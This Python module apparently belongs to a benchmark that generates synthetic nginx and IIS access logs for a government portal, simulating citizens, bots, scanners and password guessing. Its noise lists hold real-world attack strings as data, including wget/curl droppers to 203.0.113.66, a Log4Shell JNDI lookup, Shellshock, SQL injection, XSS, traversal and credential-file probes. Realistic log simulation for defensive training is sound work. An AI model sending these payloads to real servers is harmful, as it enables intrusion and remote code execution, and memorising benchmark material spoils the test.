"""Public portals: nginx (combined) and IIS (W3C), with citizens, robots and the background noise of the internet."""

from __future__ import annotations

import random

from bench.weeks.clock import FLAT, PUBLIC, SECOND, Cron, Rate, local, plain
from bench.weeks.estate import IIS, MONITOR, SCANNER, outside
from bench.weeks.scene import HEADERS, Habit, Scene

NGINX = "web/web01-access.log"
W3C = "iis/IIS01-u_ex261109.log"
_FIELDS = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
HEADERS[W3C] = (
    f"#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2026-11-08 23:00:00\n#Fields: {_FIELDS}\n".encode()
)

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
)
_BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "GPTBot/1.2 (+https://openai.com/gptbot)",
)
_PAGES = (
    "/",
    "/sherbime",
    "/sherbime/certifikata",
    "/aplikime/forma?id={n}",
    "/njoftime/{n}",
    "/kontakt",
    "/hyrje",
    "/api/v1/sherbime?faqe={p}",
    "/api/v1/aplikime/{n}/gjendja",
    "/kerko?q=certifikate+lindje",
    "/kerko?q=select+shkolla+union",
    "/kerko?q=drejt%C3%ABsi",
    "/dokumente/udhezim-{n}.pdf",
    "/media/2026/{n}.jpg",
    "/static/app.{n}.js",
    "/static/main.css",
    "/favicon.ico",
    "/llogaria/profili",
    "/eksport/aplikimet?formati=pdf&id={n}",
)
_NOISE = (
    ("GET", "/wp-login.php", 404),
    ("GET", "/.env", 404),
    ("GET", "/.git/config", 404),
    ("GET", "/phpmyadmin/index.php", 404),
    ("POST", "/xmlrpc.php", 404),
    (
        "GET",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F203.0.113.66%2Ft%60)",
        404,
    ),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("GET", "/actuator/env", 404),
    ("GET", "/manager/html", 404),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/jaws;sh+/tmp/jaws", 404),
    ("GET", "/boaform/admin/formLogin?username=admin&psd=admin", 404),
    ("GET", "/?x=${jndi:ldap://198.51.100.9:1389/a}", 200),
    (
        "GET",
        "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
        404,
    ),
    ("GET", "/cgi-bin/../../../../etc/passwd", 400),
    ("GET", "/kerko?q=1%27%20OR%20%271%27=%271", 200),
    ("GET", "/owa/auth/logon.aspx", 404),
    ("GET", "/kerko?q=-1%20UNION%20SELECT%20NULL,NULL--", 200),
    ("GET", "/kerko?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
    ("GET", "/login.action", 404),
    ("GET", "/solr/admin/info/system?wt=json", 404),
    ("GET", "/.aws/credentials", 404),
    ("GET", "/backup.zip", 404),
    ("GET", "/autodiscover/autodiscover.json?@foo.com/mapi/nspi/", 404),
    ("POST", "/GponForm/diag_Form?images/", 404),
    ("GET", "/robots.txt", 200),
    ("GET", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", 404),
    ("GET", "/wp-content/plugins/wp-file-manager/readme.txt", 404),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
    ("GET", "/db.sql", 404),
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404),
)
_TOOLS = (
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0",
    "Hello World",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "-",
    "() { :; }; /bin/bash -c 'curl 203.0.113.66/x'",
)


def nginx(s: Scene, client: str, method: str, uri: str, status: int, size: int, agent: str, referer: str = "-") -> None:
    """One line of the combined format."""
    when = local(s.time, "%d/%b/%Y:%H:%M:%S +0100")
    s.write(NGINX, f'{client} - - [{when}] "{method} {uri} HTTP/1.1" {status} {size} "{referer}" "{agent}"')


def iis(s: Scene, client: str, method: str, stem: str, query: str, status: int, agent: str, user: str = "-") -> None:
    """One line of IIS's W3C format, in UTC as IIS writes it."""
    when = plain(s.time, 0).rstrip(".")
    took = s.rng.randrange(3, 900)
    agent = agent.replace(" ", "+") or "-"
    s.write(
        W3C, f"{when} {IIS.address} {method} {stem} {query or '-'} 443 {user} {client} {agent} - {status} 0 0 {took}"
    )


def _page(rng: random.Random) -> str:
    page = rng.choice(_PAGES)
    return page.replace("{n}", str(rng.randrange(1, 40000))).replace("{p}", str(rng.randrange(1, 30)))


def visit(s: Scene) -> None:
    """A citizen on the nginx portal: a page and what hangs on it."""
    client, agent = outside(s.rng), s.rng.choice(BROWSERS)
    referer = "-"
    for _ in range(s.rng.randrange(3, 18)):
        uri = _page(s.rng)
        method = "POST" if uri.startswith(("/hyrje", "/aplikime")) and s.rng.random() < 0.6 else "GET"
        status = s.rng.choices((200, 304, 302, 404, 403, 500, 502, 499), (840, 90, 40, 14, 5, 3, 2, 6))[0]
        nginx(s, client, method, uri, status, s.rng.randrange(180, 64000), agent, referer)
        referer = f"https://portali.ministria.example{uri}"
        s.time += s.rng.randrange(20_000, 9 * SECOND)


_FORMS = (
    "/Default.aspx",
    "/Hyrje.aspx",
    "/Deklarimi/Forma.aspx",
    "/Deklarimi/Lista.aspx",
    "/WebResource.axd",
    "/ScriptResource.axd",
    "/Content/site.css",
    "/api/deklarata",
    "/Pagesa/Konfirmo.aspx",
    "/Upload/Ngarko.ashx",
    "/signalr/negotiate",
)


def declare(s: Scene) -> None:
    """A business files a declaration on the IIS portal."""
    client, agent = outside(s.rng), s.rng.choice(BROWSERS[:2])
    for _ in range(s.rng.randrange(4, 16)):
        stem = s.rng.choice(_FORMS)
        method = "POST" if stem.endswith((".ashx", "Forma.aspx", "Hyrje.aspx")) else "GET"
        query = f"d={s.rng.getrandbits(64):x}&t=638{s.rng.randrange(10**9)}" if stem.endswith(".axd") else ""
        status = s.rng.choices((200, 302, 304, 404, 500), (86, 8, 4, 1.5, 0.5))[0]
        iis(s, client, method, stem, query, status, agent)
        s.time += s.rng.randrange(30_000, 12 * SECOND)


def robot(s: Scene) -> None:
    """A search engine reads a few pages."""
    client, agent = f"198.51.100.{s.rng.randrange(200, 220)}", s.rng.choice(_BOTS)
    for _ in range(s.rng.randrange(2, 9)):
        nginx(
            s, client, "GET", _page(s.rng), s.rng.choice((200, 200, 200, 404, 301)), s.rng.randrange(500, 30000), agent
        )
        s.wait(4)


def knock(s: Scene) -> None:
    """Somebody scans the whole internet."""
    client, agent = outside(s.rng), s.rng.choice(_TOOLS)
    for method, uri, status in s.rng.sample(_NOISE, s.rng.choice((1, 1, 1, 2, 3, 8))):
        nginx(s, client, method, uri, status, 153 if status != 200 else 4120, agent)
        if s.rng.random() < 0.3:
            stem, _, query = uri.partition("?")
            iis(s, client, method, stem, query.replace(" ", "+"), 404, agent)
        s.time += s.rng.randrange(50_000, 2 * SECOND)


def sweep(s: Scene) -> None:
    """A scanner that tries hundreds of paths: some come every week."""
    client = outside(s.rng)
    agent = s.rng.choice(
        (
            "Mozilla/5.0 (Nikto/2.5.0)",
            "gobuster/3.6",
            "Wfuzz/3.1.0",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "sqlmap/1.8.11#stable (https://sqlmap.org)",
        )
    )
    for _ in range(int(500 * min(1.0, s.scale * 3)) + 12):
        word = s.rng.choice(
            ("admin", "backup", "old", "test", "shell.php", "config.bak", "cmd.jsp", "upload.aspx", "db.sql", "id_rsa")
        )
        nginx(s, client, s.rng.choice(("GET", "GET", "HEAD")), f"/{word}{s.rng.randrange(300)}", 404, 153, agent)
        s.time += s.rng.randrange(10_000, SECOND)


def own_scan(s: Scene) -> None:
    """The own CERT's weekly scan of the portals."""
    for _ in range(int(2500 * min(1.0, s.scale)) + 10):
        method, uri, status = s.rng.choice(_NOISE)
        agent = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Nessus)"
        nginx(s, SCANNER.address, method, uri, status, 153, agent)
        stem, _, query = uri.partition("?")
        iis(s, SCANNER.address, method, stem, query, 404, agent)
        s.time += s.rng.randrange(100_000, SECOND)


def health(s: Scene) -> None:
    """The monitoring server asks whether the portals live."""
    nginx(s, MONITOR.address, "GET", "/health", 200, 2, "Zabbix")
    iis(s, MONITOR.address, "GET", "/health", "", 200, "Zabbix")


def passwords(s: Scene) -> None:
    """Somebody's forgotten password, or a robot that tries lists."""
    client = outside(s.rng)
    for _ in range(s.rng.choice((2, 3, 4, 5, 30))):
        nginx(s, client, "POST", "/hyrje", 401, 812, s.rng.choice(BROWSERS))
        s.wait(5)


HABITS = (
    Habit("web.visits", Rate(16500, PUBLIC), visit),
    Habit("web.declarations", Rate(6000, PUBLIC), declare),
    Habit("web.robots", Rate(2400, FLAT), robot),
    Habit("web.knocks", Rate(2200, FLAT), knock),
    Habit("web.sweeps", Rate(9, FLAT, rare=True), sweep),
    Habit("web.scan", Cron((30,), (2,), (6,), once=True), own_scan),
    Habit("web.health", Cron(range(60)), health),
    Habit("web.passwords", Rate(300, PUBLIC), passwords),
)
